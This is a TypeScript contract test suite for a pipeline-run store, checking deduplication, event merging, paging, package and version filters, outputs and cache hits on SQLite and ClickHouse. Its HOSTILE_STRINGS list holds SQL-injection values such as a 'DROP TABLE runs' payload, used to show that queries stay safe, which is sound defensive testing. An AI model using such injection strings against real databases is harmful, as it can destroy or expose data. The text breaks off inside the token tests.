// The Store contract: the same tests run against every backend (SqliteStore in
// test/unit/sqlite-store-contract.test.ts, ClickHouseStore against a real clickhouse-server in
// test/integration/clickhouse-store.test.ts), so both answer every query the same.
import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import type { RunQuery } from "../../core/api-types.js";
import { snapshotDigest } from "../../core/digest.js";
import type { OutputFile, SnapshotEvent } from "../../core/model.js";
import { isRefusal, type Store, type StoreOutcome, type StoredToken } from "../../collector/store/store.js";
import { capturedEvent, codeSnapshot, envSnapshot, finishedEvent, hostSnapshot, startedEvent } from "../helpers/collector-fixtures.js";

/** Opens an empty store of the backend under test; each call must be isolated from the others. */
export type FreshStore = () => Promise<Store>;

export function fullRun(
  runId: string,
  packages: Record<string, string>,
  o: { time?: number; pipeline?: string; step?: string; exitCode?: number } = {},
): SnapshotEvent[] {
  const time = o.time ?? 1_714_000_000_000;
  return [
    startedEvent(runId, { time, pipeline: o.pipeline ?? "nightly_train", step: o.step ?? "train" }),
    capturedEvent(runId, { environment: { body: envSnapshot(packages) }, host: { body: hostSnapshot() }, code: { body: codeSnapshot("abc123") } }, { time: time + 100 }),
    finishedEvent(runId, { time: time + 60_000, exitCode: o.exitCode ?? 0 }),
  ];
}

/** Strings that break naive SQL building: quotes, backslashes, NUL, newlines, Unicode, SQL. */
export const HOSTILE_STRINGS: readonly string[] = [
  "it's",
  "''",
  "\\",
  "back\\slash\\'",
  "x\\",
  "nul\u0000byte",
  "new\nline\r\ttab",
  "\u007f\u0001\u001b[31m",
  "ünï©ødé — 雪 🚀",
  "' OR '1'='1",
  "') OR 1=1 --",
  "x'; DROP TABLE runs; --",
  "\\'; SELECT 1; --",
  "%_*?",
  "`backtick` \"double\"",
];

/** Run ids sort as UTF-8 bytes in both backends (SQLite BINARY, ClickHouse String). */
function byUtf8(a: string, b: string): number {
  return Buffer.compare(Buffer.from(a), Buffer.from(b));
}

async function withStore<T>(fresh: FreshStore, fn: (store: Store) => Promise<T>): Promise<T> {
  const store = await fresh();
  try {
    return await fn(store);
  } finally {
    await store.close();
  }
}

export function storeContract(name: string, fresh: FreshStore): void {
  void describe(`Store contract: ${name}`, () => {
    void it("stores events once: a resent batch is all DUPLICATE and changes nothing", () =>
      withStore(fresh, async (store) => {
        const events = fullRun("airflow:dag/run1/train/1", { numpy: "1.26.4" });
        assert.deepEqual(await store.append(events), ["STORED", "STORED", "STORED"]);
        const before = await store.getRun("airflow:dag/run1/train/1");
        assert.deepEqual(await store.append(events), ["DUPLICATE", "DUPLICATE", "DUPLICATE"]);
        // The same event id with different content is still a duplicate: the first one stays.
        const changed = finishedEvent("airflow:dag/run1/train/1", { exitCode: 3 });
        assert.deepEqual(await store.append([changed]), ["DUPLICATE"]);
        assert.deepEqual(await store.getRun("airflow:dag/run1/train/1"), before);
        // Duplicates inside one batch.
        const twice = startedEvent("r-dup");
        assert.deepEqual(await store.append([twice, twice]), ["STORED", "DUPLICATE"]);
        // An event id is unique across runs, not only within one.
        assert.deepEqual(await store.append([startedEvent("r-other", { eventId: "r-dup#started" })]), ["DUPLICATE"]);
        assert.equal(await store.getRun("r-other"), undefined);
        assert.deepEqual(await store.append([]), []);
      }));

    void it("merges events in any order into the same run", async () => {
      const events = fullRun("slurm:cluster/123", { torch: "2.3.0", numpy: "1.26.4" }, { exitCode: 1 });
      const orders = [
        [0, 1, 2],
        [2, 1, 0],
        [1, 2, 0],
        [2, 0, 1],
      ];
      const results = [];
      for (const order of orders) {
        results.push(
          await withStore(fresh, async (store) => {
            // One event per batch, so each arrival is merged into what is already there.
            for (const i of order) await store.append([events[i]!]);
            const run = await store.getRun("slurm:cluster/123");
            assert.ok(run);
            return run;
          }),
        );
      }
      for (const r of results.slice(1)) assert.deepEqual(r, results[0]);
      const run = results[0]!;
      assert.equal(run.status, "failed");
      assert.equal(run.exitCode, 1);
      assert.equal(run.startedAt, new Date(1_714_000_000_000).toISOString());
      assert.equal(run.finishedAt, new Date(1_714_000_060_000).toISOString());
      assert.equal(run.durationMs, 59_500);
      assert.equal(run.gitCommit, "abc123");
      assert.equal(run.hostname, "gpu-node-01");
      assert.equal(run.orchestrator, "AIRFLOW");
      assert.deepEqual(
        run.events.map((e) => e.type),
        ["runStarted", "snapshotCaptured", "runFinished"],
      );
    });

    void it("shows a finished-only run as finished and fills started fields when the start arrives", () =>
      withStore(fresh, async (store) => {
        await store.append([finishedEvent("kfp:run9/task", { signal: "SIGKILL", exitCode: -1 })]);
        let run = await store.getRun("kfp:run9/task");
        assert.equal(run?.status, "failed");
        assert.equal(run?.signal, "SIGKILL");
        assert.equal(run?.startedAt, null);
        assert.equal(run?.pipeline, "");
        await store.append([startedEvent("kfp:run9/task", { kind: "KUBEFLOW", pipeline: "kfp-pipe", step: "eval", rollbackOf: "kfp:run8/task" })]);
        run = await store.getRun("kfp:run9/task");
        assert.equal(run?.status, "failed");
        assert.equal(run?.orchestrator, "KUBEFLOW");
        assert.equal(run?.pipeline, "kfp-pipe");
        assert.equal(run?.step, "eval");
        assert.equal(run?.rollbackOf, "kfp:run8/task");
        assert.notEqual(run?.startedAt, null);
        // The list sees the latest state too, not the first.
        assert.deepEqual((await store.listRuns({ pipeline: "kfp-pipe", step: "eval" })).map((r) => r.runId), ["kfp:run9/task"]);
        assert.deepEqual(await store.listRuns({ pipeline: "" }), []);
        await store.append([startedEvent("running-run")]);
        assert.equal((await store.getRun("running-run"))?.status, "running");
        assert.equal((await store.getRun("running-run"))?.exitCode, null);
      }));

    void it("returns RunDetail with snapshot bodies joined, config, context, warnings and events", () =>
      withStore(fresh, async (store) => {
        const env = envSnapshot({ pydantic: "2.7.1" });
        const events = fullRun("r-detail", { pydantic: "2.7.1" });
        events[1] = capturedEvent(
          "r-detail",
          { environment: { body: env }, host: { body: hostSnapshot("node-7") }, code: { body: codeSnapshot("c0ffee") } },
          { warnings: [{ source: "python", message: "pip list was slow" }] },
        );
        await store.append(events);
        const run = await store.getRun("r-detail");
        assert.ok(run);
        assert.deepEqual(run.environment, env);
        assert.equal(run.environmentDigest, snapshotDigest("environment", env));
        assert.equal(run.host?.hostname, "node-7");
        assert.equal(run.code?.git?.commit, "c0ffee");
        assert.equal(run.gitCommit, "c0ffee");
        assert.deepEqual(run.config?.argv, ["python", "train.py", "--lr", "0.1"]);
        assert.equal(run.orchestratorContext?.attributes.queue, "gpu");
        assert.equal(run.agentVersion, "0.1.0");
        assert.deepEqual(run.warnings, [{ source: "python", message: "pip list was slow" }]);
        assert.equal(run.events.length, 3);
        const stored = await store.getSnapshot(snapshotDigest("environment", env));
        assert.equal(stored?.kind, "environment");
        assert.deepEqual(stored?.body, env);
        assert.equal(await store.getRun("nope"), undefined);
        assert.equal(await store.getSnapshot("sha256:" + "0".repeat(64)), undefined);
      }));

    void it("takes the host name from the host snapshot when the start did not carry one", () =>
      withStore(fresh, async (store) => {
        await store.append([
          startedEvent("r-nohost", { hostname: "" }),
          capturedEvent("r-nohost", { host: { body: hostSnapshot("from-snapshot") } }),
        ]);
        assert.equal((await store.getRun("r-nohost"))?.hostname, "from-snapshot");
      }));

    void it("hasSnapshots reports stored digests only; a capture with only digests reuses stored bodies", () =>
      withStore(fresh, async (store) => {
        const env = envSnapshot({ numpy: "1.26.4" });
        const digest = snapshotDigest("environment", env);
        assert.deepEqual(await store.hasSnapshots([digest]), new Set());
        await store.append([capturedEvent("r1", { environment: { body: env } })]);
        assert.deepEqual(await store.hasSnapshots([digest, "sha256:" + "f".repeat(64), digest]), new Set([digest]));
        assert.deepEqual(await store.hasSnapshots([]), new Set());
        await store.append([capturedEvent("r2", { environment: { body: env, omitBody: true } })]);
        assert.deepEqual((await store.getRun("r2"))?.environment, env);
        // The body arriving again (another run, same environment) is stored once and still matches.
        await store.append(fullRun("r3", { numpy: "1.26.4" }));
        assert.deepEqual((await store.listRuns({ package: "numpy", version: "1.26.4" })).map((r) => r.runId).sort(), ["r1", "r2", "r3"]);
      }));

    void describe("listRunPage", () => {
      let store: Store;
      const t = 1_714_100_000_000;
      before(async () => {
        store = await fresh();
        // Seven runs; p-3, p-4 and p-5 start in the same millisecond, so only the id orders them.
        const events: SnapshotEvent[] = [];
        for (const [i, kind, time] of [
          [1, "AIRFLOW", t + 1000],
          [2, "SLURM", t + 2000],
          [3, "AIRFLOW", t + 3000],
          [4, "SLURM", t + 3000],
          [5, "AIRFLOW", t + 3000],
          [6, "KUBEFLOW", t + 4000],
          [7, "SLURM", t + 5000],
        ] as const) {
          events.push(startedEvent(`p-${i}`, { time, kind, pipeline: "paged", step: "s" }));
        }
        await store.append(events);
      });
      after(() => store.close());

      /** Every page of a query, following `next` until it is null. */
      const pages = async (q: RunQuery): Promise<string[][]> => {
        const out: string[][] = [];
        let after: RunQuery["after"];
        for (let i = 0; i < 20; i++) {
          const page = await store.listRunPage({ ...q, ...(after ? { after } : {}) });
          out.push(page.runs.map((r) => r.runId));
          if (!page.next) return out;
          assert.equal(page.next.runId, page.runs.at(-1)?.runId, "the next page starts after the last run shown");
          after = page.next;
        }
        throw new Error("more than 20 pages");
      };

      void it("walks the whole list in pages, newest first, ties broken by run id, no run twice or missed", async () => {
        assert.deepEqual(await pages({ limit: 2 }), [["p-7", "p-6"], ["p-5", "p-4"], ["p-3", "p-2"], ["p-1"]]);
        assert.deepEqual(await pages({ limit: 3 }), [["p-7", "p-6", "p-5"], ["p-4", "p-3", "p-2"], ["p-1"]]);
        // A page that ends exactly at the last run says there is no next page.
        assert.deepEqual(await pages({ limit: 7 }), [["p-7", "p-6", "p-5", "p-4", "p-3", "p-2", "p-1"]]);
        assert.deepEqual(await pages({ pipeline: "paged", step: "s", limit: 4 }), [["p-7", "p-6", "p-5", "p-4"], ["p-3", "p-2", "p-1"]]);
      });

      void it("filters on the orchestrator, and pages within the filter", async () => {
        assert.deepEqual(await pages({ orchestrator: "SLURM", limit: 2 }), [["p-7", "p-4"], ["p-2"]]);
        assert.deepEqual(await pages({ orchestrator: "KUBEFLOW" }), [["p-6"]]);
        assert.deepEqual(await pages({ orchestrator: "LOCAL" }), [[]]);
      });

      void it("filters on a time range: since inclusive, until exclusive", async () => {
        assert.deepEqual(await pages({ since: t + 3000, until: t + 5000 }), [["p-6", "p-5", "p-4", "p-3"]]);
        assert.deepEqual(await pages({ since: t + 3000, until: t + 5000, limit: 2 }), [["p-6", "p-5"], ["p-4", "p-3"]]);
        assert.deepEqual(await pages({ until: t + 1000 }), [[]]);
        assert.deepEqual(await pages({ since: t + 6000 }), [[]]);
      });

      void it("listRuns answers the first page's runs", async () => {
        assert.deepEqual((await store.listRuns({ limit: 3 })).map((r) => r.runId), (await store.listRunPage({ limit: 3 })).runs.map((r) => r.runId));
      });
    });

    void describe("listRuns", () => {
      let store: Store;
      before(async () => {
        store = await fresh();
        const t = 1_714_000_000_000;
        await store.append([
          ...fullRun("run-a", { pydantic: "1.10.13", Typing_Extensions: "4.9.0" }, { time: t + 1000, pipeline: "etl", step: "load" }),
          ...fullRun("run-b", { pydantic: "2.7.1", numpy: "1.26.4" }, { time: t + 2000, pipeline: "etl", step: "train", exitCode: 2 }),
          ...fullRun("run-c", { pydantic: "2.0.0" }, { time: t + 3000, pipeline: "nightly", step: "train" }),
          ...fullRun("run-d", { numpy: "2.0.0" }, { time: t + 4000, pipeline: "nightly", step: "train" }),
          startedEvent("run-e", { time: t + 5000, pipeline: "nightly", step: "eval" }),
        ]);
      });
      after(() => store.close());
      const ids = async (q: RunQuery) => (await store.listRuns(q)).map((r) => r.runId);

      void it("lists newest first with the default limit", async () => {
        assert.deepEqual(await ids({}), ["run-e", "run-d", "run-c", "run-b", "run-a"]);
        assert.deepEqual(await ids({ limit: 2 }), ["run-e", "run-d"]);
        assert.deepEqual(await ids({ limit: 0 }), ["run-e"]); // clamped to at least 1
        assert.deepEqual(await ids({ limit: 2.7 }), ["run-e", "run-d"]);
        assert.equal((await ids({ limit: Number.NaN })).length, 5);
      });

      void it("filters on pipeline, step and status", async () => {
        assert.deepEqual(await ids({ pipeline: "etl" }), ["run-b", "run-a"]);
        assert.deepEqual(await ids({ step: "train" }), ["run-d", "run-c", "run-b"]);
        assert.deepEqual(await ids({ pipeline: "nightly", step: "train" }), ["run-d", "run-c"]);
        assert.deepEqual(await ids({ status: "failed" }), ["run-b"]);
        assert.deepEqual(await ids({ status: "running" }), ["run-e"]);
        assert.deepEqual(await ids({ status: "succeeded", pipeline: "etl" }), ["run-a"]);
      });

      void it("filters on a package, any spelling (PEP 503)", async () => {
        assert.deepEqual(await ids({ package: "pydantic" }), ["run-c", "run-b", "run-a"]);
        assert.deepEqual(await ids({ package: "typing.extensions" }), ["run-a"]);
        assert.deepEqual(await ids({ package: "TYPING__EXTENSIONS" }), ["run-a"]);
        assert.deepEqual(await ids({ package: "absent" }), []);
      });

      void it("filters on an exact version or a PEP 440 specifier", async () => {
        assert.deepEqual(await ids({ package: "pydantic", version: "2.7.1" }), ["run-b"]);
        assert.deepEqual(await ids({ package: "pydantic", version: "2.7" }), []);
        assert.deepEqual(await ids({ package: "pydantic", version: ">=2,<3" }), ["run-c", "run-b"]);
        assert.deepEqual(await ids({ package: "pydantic", version: "~=1.10" }), ["run-a"]);
        assert.deepEqual(await ids({ package: "pydantic", version: "==2.*" }), ["run-c", "run-b"]);
        assert.deepEqual(await ids({ package: "pydantic", version: "!=2.0.0" }), ["run-b", "run-a"]);
        assert.deepEqual(await ids({ package: "pydantic", version: ">=2", limit: 1 }), ["run-c"]);
        assert.deepEqual(await ids({ package: "numpy", version: "<2", pipeline: "etl" }), ["run-b"]);
        assert.deepEqual(await ids({ package: "pydantic", version: ">=9" }), []);
      });

      void it("filters on an environment digest, alone and with the other filters, in pages", async () => {
        const b = (await store.getRun("run-b"))!;
        const c = (await store.getRun("run-c"))!;
        assert.match(b.environmentDigest ?? "", /^sha256:/);
        assert.deepEqual(await ids({ environment: b.environmentDigest! }), ["run-b"]);
        assert.deepEqual(await ids({ environment: c.environmentDigest!, package: "pydantic", version: ">=2" }), ["run-c"]);
        assert.deepEqual(await ids({ environment: c.environmentDigest!, package: "numpy" }), []);
        assert.deepEqual(await ids({ environment: b.environmentDigest!, pipeline: "nightly" }), []);
        assert.deepEqual(await ids({ environment: `sha256:${"0".repeat(64)}` }), []);
        for (const text of HOSTILE_STRINGS) assert.deepEqual(await ids({ environment: text }), [], JSON.stringify(text));
      });

      void it("packageVersions: the versions of one package in each environment, any spelling, absent ones left out", async () => {
        const envOf = async (id: string) => (await store.getRun(id))!.environmentDigest!;
        const [a, b, d] = [await envOf("run-a"), await envOf("run-b"), await envOf("run-d")];
        const pydantic = await store.packageVersions("Pydantic", [a, b, d, `sha256:${"0".repeat(64)}`]);
        assert.deepEqual([...pydantic.entries()].sort(), [[a, ["1.10.13"]], [b, ["2.7.1"]]].sort());
        assert.deepEqual(await store.packageVersions("typing_extensions", [a, a, b]), new Map([[a, ["4.9.0"]]]));
        assert.deepEqual(await store.packageVersions("numpy", []), new Map());
        for (const text of HOSTILE_STRINGS) {
          assert.deepEqual(await store.packageVersions(text, [a, text]), new Map(), JSON.stringify(text));
        }
      });

      void it("refuses a version without a package, and an invalid specifier", async () => {
        await assert.rejects(store.listRuns({ version: "1.0" }), { code: "BAD_INPUT" });
        await assert.rejects(store.listRuns({ package: "pydantic", version: ">=2,<" }), { code: "BAD_INPUT" });
        await assert.rejects(store.listRuns({ package: "pydantic", version: "~=1" }), { code: "BAD_INPUT" });
      });

      void it("answers hostile filter text correctly (no match), never as SQL", async () => {
        for (const text of HOSTILE_STRINGS) {
          assert.deepEqual(await ids({ pipeline: text }), [], JSON.stringify(text));
          assert.deepEqual(await ids({ step: text, pipeline: "etl" }), [], JSON.stringify(text));
          assert.deepEqual(await ids({ package: text }), [], JSON.stringify(text));
          // A version filter is either a version (no such one: no match) or refused as not one.
          await ids({ package: "pydantic", version: text }).then(
            (found) => assert.deepEqual(found, [], JSON.stringify(text)),
            (err: unknown) => assert.equal((err as { code?: string }).code, "BAD_INPUT", `${JSON.stringify(text)}: ${String(err)}`),
          );
          assert.equal(await store.getRun(text), undefined);
          assert.deepEqual(await store.findRunIds(text, 10), []);
          assert.equal(await store.getSnapshot(text), undefined);
          assert.deepEqual(await store.hasSnapshots([text]), new Set());
        }
        // A status outside the enum (the API validates it; a direct caller may not).
        assert.deepEqual(await ids({ status: "failed' OR '1'='1" as "failed" }), []);
        // Everything is still there afterwards.
        assert.deepEqual(await ids({}), ["run-e", "run-d", "run-c", "run-b", "run-a"]);
      });

      void it("returns RunSummary fields", async () => {
        const [b] = await store.listRuns({ pipeline: "etl", step: "train" });
        assert.ok(b);
        assert.equal(b.status, "failed");
        assert.equal(b.exitCode, 2);
        assert.equal(b.pipelineRun, "scheduled__2024-05-01");
        assert.equal(b.attempt, 1);
        assert.equal(b.gitCommit, "abc123");
        assert.match(b.environmentDigest ?? "", /^sha256:/);
        assert.equal(Object.hasOwn(b, "events"), false);
        const { events: _events, orchestratorContext: _c, config: _f, agentVersion: _a, environment: _e, host: _h, code: _k, warnings: _w, outputs: _o, children: _n, ...summary } =
          (await store.getRun("run-b"))!;
        assert.deepEqual(b, summary);
      });
    });

    void it("stores and finds hostile text in ids and filters exactly", () =>
      withStore(fresh, async (store) => {
        const events = HOSTILE_STRINGS.map((text, i) =>
          startedEvent(`odd/${text}`, { eventId: `e-${i}-${text}`, pipeline: text, step: text, time: 1_714_000_000_000 + i }),
        );
        assert.deepEqual(
          await store.append(events),
          events.map(() => "STORED"),
        );
        for (const text of HOSTILE_STRINGS) {
          const runs = await store.listRuns({ pipeline: text, step: text });
          assert.deepEqual(
            runs.map((r) => r.runId),
            [`odd/${text}`],
            JSON.stringify(text),
          );
          assert.equal((await store.getRun(`odd/${text}`))?.pipeline, text);
          const found = await store.findRunIds(`odd/${text}`, 100);
          assert.ok(found.includes(`odd/${text}`), JSON.stringify(text));
          assert.ok(found.every((id) => id.startsWith(`odd/${text}`)), JSON.stringify(found));
          assert.deepEqual(found, HOSTILE_STRINGS.map((s) => `odd/${s}`).filter((id) => id.startsWith(`odd/${text}`)).sort(byUtf8));
        }
        assert.equal((await store.listRuns({ limit: 100 })).length, HOSTILE_STRINGS.length);
        assert.equal((await store.findRunIds("odd/", 100)).length, HOSTILE_STRINGS.length);
        assert.deepEqual(await store.append(events), events.map(() => "DUPLICATE"));
      }));

    void it("lists only each run's latest fold: runs that moved step or time, sparse old matches, many folds", () =>
      withStore(fresh, async (store) => {
        // 300 runs: 200 a millisecond apart, then 100 a thousand seconds apart (a skewed density
        // the ClickHouse list must widen its window over). Two old runs use pydantic 2; run 290's
        // second capture moves it off pydantic 2; runs 250-259 are first seen without a start
        // (no step, sorted by their capture time) and then start much earlier, under step "moved".
        const t = 1_714_000_000_000;
        const id = (i: number) => `m-${String(i).padStart(3, "0")}`;
        const moved = (i: number) => i >= 250 && i < 260;
        const startOf = (i: number) => (i < 200 ? t + i : t + (i - 199) * 1_000_000);
        const sortOf = (i: number) => (moved(i) ? t - 1_000_000 - i : startOf(i));
        const stepOf = (i: number) => (moved(i) ? "moved" : `s${i % 3}`);
        const env1 = { body: envSnapshot({ pydantic: "1.10.13" }) };
        const env2 = { body: envSnapshot({ pydantic: "2.7.1" }) };
        const all = Array.from({ length: 300 }, (_, i) => i);
        await store.append(all.filter((i) => !moved(i)).map((i) => startedEvent(id(i), { time: startOf(i), pipeline: "p", step: stepOf(i) })));
        await store.append(all.map((i) => capturedEvent(id(i), { environment: i === 5 || i === 17 || i === 290 ? env2 : env1 }, { time: startOf(i) + 100 })));
        await store.append(all.map((i) => finishedEvent(id(i), { time: startOf(i) + 60_000, exitCode: i % 7 === 0 ? 1 : 0 })));
        await store.append(all.filter(moved).map((i) => startedEvent(id(i), { time: sortOf(i), pipeline: "p", step: "moved" })));
        // A second capture naming another environment for run 290 is refused: the run stays on pydantic 2.
        const [again] = await store.append([capturedEvent(id(290), { environment: env1 }, { eventId: `${id(290)}#again`, time: startOf(290) + 200 })]);
        assert.equal(isRefusal(again!) && again.outcome, "REFUSED");
        const pydantic2 = (i: number) => i === 5 || i === 17 || i === 290;

        const expect = (keep: (i: number) => boolean, limit: number) =>
          all
            .filter(keep)
            .sort((a, b) => sortOf(b) - sortOf(a))
            .slice(0, limit)
            .map(id);
        const ids = async (q: RunQuery) => (await store.listRuns(q)).map((r) => r.runId);
        // 250: more candidates than the ClickHouse list names one by one, read down to a floor.
        for (const limit of [1, 5, 50, 250, 1000]) {
          assert.deepEqual(await ids({ limit }), expect(() => true, limit), `all, limit ${limit}`);
          assert.deepEqual(await ids({ pipeline: "p", step: "s1", limit }), expect((i) => stepOf(i) === "s1", limit), `step s1, limit ${limit}`);
          assert.deepEqual(await ids({ pipeline: "p", step: "moved", limit }), expect(moved, limit), `moved, limit ${limit}`);
          assert.deepEqual(await ids({ step: "moved", limit }), expect(moved, limit), `step only, limit ${limit}`);
          assert.deepEqual(await ids({ package: "pydantic", version: ">=2", limit }), expect(pydantic2, limit), `pydantic 2, limit ${limit}`);
          assert.deepEqual(await ids({ package: "pydantic", version: "2.7.1", limit }), expect(pydantic2, limit), `exact, limit ${limit}`);
          assert.deepEqual(await ids({ status: "failed", limit }), expect((i) => i % 7 === 0, limit), `failed, limit ${limit}`);
        }
        assert.deepEqual(await ids({ pipeline: "", step: "" }), []);
        const run = await store.getRun(id(255));
        assert.equal(run?.step, "moved");
        assert.equal(run?.startedAt, new Date(sortOf(255)).toISOString());
        assert.equal(run?.events.length, 3);
      }));

    void it("findRunIds resolves prefixes, including ids with ':' and '/'", () =>
      withStore(fresh, async (store) => {
        for (const id of ["airflow:dag/r1/t/1", "airflow:dag/r1/t/2", "airflow:dag/r2/t/1", "slurm:c/9", "airflow:dah/x"]) {
          await store.append([startedEvent(id)]);
        }
        // A second fold of one run must not list it twice.
        await store.append([finishedEvent("airflow:dag/r1/t/1")]);
        assert.deepEqual(await store.findRunIds("airflow:dag/r1", 10), ["airflow:dag/r1/t/1", "airflow:dag/r1/t/2"]);
        assert.deepEqual(await store.findRunIds("airflow:dag/", 10), ["airflow:dag/r1/t/1", "airflow:dag/r1/t/2", "airflow:dag/r2/t/1"]);
        assert.deepEqual(await store.findRunIds("airflow:dag/", 2), ["airflow:dag/r1/t/1", "airflow:dag/r1/t/2"]);
        assert.deepEqual(await store.findRunIds("slurm", 10), ["slurm:c/9"]);
        assert.deepEqual(await store.findRunIds("kfp", 10), []);
        assert.equal((await store.findRunIds("", 100)).length, 5);
      }));

    outputsContract(fresh);
    immutableRunsContract(fresh);
    tokensContract(fresh);
  });
}

const KEY = `sha256:${"a".repeat(64)}`;
const OTHER_KEY = `sha256:${"b".repeat(64)}`;
const contentDigest = (n: number): string => `sha256:${n.toString(16).padStart(64, "0")}`;
const output = (path: string, n: number, o: Partial<OutputFile> = {}): OutputFile => ({ path, digest: contentDigest(n), size: 100 + n, mode: 0o644, stored: false, ...o });

/** A run with outputs and cache links, started at `time` seconds after the fixtures' epoch. */
function outputRun(
  runId: string,
  time: number,
  o: { outputs?: OutputFile[]; exitCode?: number; cacheKey?: string; cachedFrom?: string } = {},
): SnapshotEvent[] {
  const t = 1_714_000_000_000 + time * 1000;
  return [
    startedEvent(runId, { time: t, cacheKey: o.cacheKey, cachedFrom: o.cachedFrom }),
    capturedEvent(runId, { environment: { body: envSnapshot({ numpy: "1.26.4" }) }, code: { body: codeSnapshot("c0ffee") } }, { time: t + 10 }),
    finishedEvent(runId, { time: t + 500, exitCode: o.exitCode ?? 0, outputs: o.outputs ?? [] }),
  ];
}

function outputsContract(fresh: FreshStore): void {
  void it("keeps a run's outputs sorted by path, and its cache key and source, in the run and in lists", () =>
    withStore(fresh, async (store) => {
      await store.append(outputRun("out-1", 1, { outputs: [output("z/model.bin", 2, { stored: true, mode: 0o755 }), output("a.txt", 1, { stored: true })], cacheKey: KEY }));
      await store.append(outputRun("plain", 2));
      const run = await store.getRun("out-1");
      assert.deepEqual(run?.outputs, [output("a.txt", 1, { stored: true }), output("z/model.bin", 2, { stored: true, mode: 0o755 })]);
      assert.equal(run?.cacheKey, KEY);
      assert.equal(run?.cachedFrom, null);
      const plain = await store.getRun("plain");
      assert.deepEqual(plain?.outputs, []);
      assert.equal(plain?.cacheKey, null);
      const listed = await store.listRuns({});
      assert.deepEqual(listed.map((r) => [r.runId, r.cacheKey, r.cachedFrom]), [["plain", null, null], ["out-1", KEY, null]]);
      await store.append(outputRun("hit-1", 3, { outputs: [output("a.txt", 1, { stored: true })], cacheKey: KEY, cachedFrom: "out-1" }));
      assert.equal((await store.getRun("hit-1"))?.cachedFrom, "out-1");
      assert.equal((await store.listRuns({ limit: 1 }))[0]?.cachedFrom, "out-1");
    }));

  void it("findRunsByOutput: every run that produced the content, newest first, with its path", () =>
    withStore(fresh, async (store) => {
      await store.append(outputRun("old", 10, { outputs: [output("out/model.bin", 7), output("log.txt", 8)] }));
      await store.append(outputRun("new", 30, { outputs: [output("renamed.bin", 7)], exitCode: 1 }));
      await store.append(outputRun("between", 20, { outputs: [output("other.bin", 9), { path: "missing.bin", digest: "", size: 0, mode: 0, stored: false }] }));
      const found = await store.findRunsByOutput(contentDigest(7), 10);
      assert.deepEqual(found.map((p) => [p.run.runId, p.path, p.size]), [["new", "renamed.bin", 107], ["old", "out/model.bin", 107]]);
      assert.equal(found[0]?.run.status, "failed");
      assert.equal(found[1]?.run.gitCommit, "c0ffee");
      assert.ok(found[1]?.run.environmentDigest?.startsWith("sha256:"));
      assert.deepEqual((await store.findRunsByOutput(contentDigest(7), 1)).map((p) => p.run.runId), ["new"]);
      assert.deepEqual(await store.findRunsByOutput(contentDigest(99), 10), []);
      // A missing output (no digest) is never found, not even by the empty string.
      assert.deepEqual(await store.findRunsByOutput("", 10), []);
      // Resending the finish changes nothing; the same content under two paths of one run is two entries.
      await store.append(outputRun("twice", 40, { outputs: [output("a.bin", 5), output("b.bin", 5)] }));
      await store.append(outputRun("twice", 40, { outputs: [output("a.bin", 5), output("b.bin", 5)] }));
      assert.deepEqual((await store.findRunsByOutput(contentDigest(5), 10)).map((p) => [p.run.runId, p.path]), [["twice", "a.bin"], ["twice", "b.bin"]]);
    }));

  void it("findRunsByOutput orders by each run's latest state when events arrive out of order", () =>
    withStore(fresh, async (store) => {
      const [started, captured, finished] = outputRun("late-start", 5, { outputs: [output("m.bin", 3)] });
      // The finish alone sorts the run at its own time (5.5 s), above "middle" (5.2 s)...
      await store.append([finished!]);
      await store.append(outputRun("middle", 5.2, { outputs: [output("m.bin", 3)] }));
      assert.deepEqual((await store.findRunsByOutput(contentDigest(3), 10)).map((p) => p.run.runId), ["late-start", "middle"]);
      // ...until its start (5 s) arrives and moves it below.
      await store.append([captured!, started!]);
      assert.deepEqual((await store.findRunsByOutput(contentDigest(3), 10)).map((p) => p.run.runId), ["middle", "late-start"]);
      assert.deepEqual((await store.findRunsByOutput(contentDigest(3), 1)).map((p) => p.run.runId), ["middle"]);
    }));

  void it("findCacheHits: only succeeded runs that ran their command and stored every output, newest first", () =>
    withStore(fresh, async (store) => {
      const stored = (path: string, n: number) => output(path, n, { stored: true });
      await store.append(outputRun("source-old", 1, { cacheKey: KEY, outputs: [stored("a", 1)] }));
      await store.append(outputRun("source-new", 2, { cacheKey: KEY, outputs: [stored("a", 2), stored("b", 3)] }));
      await store.append(outputRun("failed", 3, { cacheKey: KEY, outputs: [stored("a", 4)], exitCode: 1 }));
      await store.append(outputRun("cached", 4, { cacheKey: KEY, cachedFrom: "source-new", outputs: [stored("a", 2), stored("b", 3)] }));
      await store.append(outputRun("not-uploaded", 5, { cacheKey: KEY, outputs: [stored("a", 5), output("big", 6)] }));
      await store.append(outputRun("output-missing", 6, { cacheKey: KEY, outputs: [stored("a", 5), { path: "gone", digest: "", size: 0, mode: 0, stored: false }] }));
      await store.append([startedEvent("still-running", { time: 1_714_000_000_000 + 7000, cacheKey: KEY })]);
      await store.append(outputRun("other-key", 8, { cacheKey: OTHER_KEY, outputs: [stored("a", 9)] }));
      await store.append(outputRun("no-key", 9, { outputs: [stored("a", 9)] }));
      const hits = await store.findCacheHits(KEY, 10);
      assert.deepEqual(hits.map((h) => h.run.runId), ["source-new", "source-old"]);
      assert.deepEqual(hits[0]?.outputs, [stored("a", 2), stored("b", 3)]);
      assert.equal(hits[0]?.run.cacheKey, KEY);
      assert.deepEqual((await store.findCacheHits(KEY, 1)).map((h) => h.run.runId), ["source-new"]);
      assert.deepEqual((await store.findCacheHits(OTHER_KEY, 10)).map((h) => h.run.runId), ["other-key"]);
      assert.deepEqual(await store.findCacheHits(`sha256:${"c".repeat(64)}`, 10), []);
      // A run with no outputs at all stored everything it declared: it is a source too.
      await store.append(outputRun("no-outputs", 10, { cacheKey: OTHER_KEY }));
      assert.deepEqual((await store.findCacheHits(OTHER_KEY, 10)).map((h) => h.run.runId), ["no-outputs", "other-key"]);
    }));

  void it("findCacheHits follows a run's latest state: a finish that arrives later makes it a source", () =>
    withStore(fresh, async (store) => {
      const [started, captured, finished] = outputRun("slow", 1, { cacheKey: KEY, outputs: [output("a", 1, { stored: true })] });
      await store.append([started!, captured!]);
      assert.deepEqual(await store.findCacheHits(KEY, 10), []);
      await store.append([finished!]);
      assert.deepEqual((await store.findCacheHits(KEY, 10)).map((h) => h.run.runId), ["slow"]);
    }));
}

/** API tokens: kept hashed, found by id, listed newest first, revoked once and for good. */
function tokensContract(fresh: FreshStore): void {
  const token = (id: string, created: number, o: Partial<StoredToken> = {}): StoredToken => ({
    id,
    name: `ci ${id}`,
    role: "reader",
    secretSha256: "ab".repeat(32),
    createdUnixMs: created,
    expiresUnixMs: null,
    revokedUnixMs: null,
    ...o,
  });

